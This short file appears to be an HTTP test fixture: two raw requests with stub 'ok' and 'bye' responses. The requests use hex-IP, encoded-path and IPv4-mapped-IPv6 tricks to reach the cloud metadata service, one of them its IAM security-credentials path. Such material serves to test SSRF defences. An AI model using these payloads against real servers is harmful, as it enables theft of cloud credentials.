>>>
GET /latest/%2e%2e/latest//meta-data/./iam/security-credentials/r HTTP/1.1
Host: 0xA9FEA9FE:80

GET http://[::ffff:169.254.169.254]/latest/meta-data/ HTTP/1.0


<<<
HTTP/1.1 200 OK
Content-Length: 2

okHTTP/1.0 200 OK

bye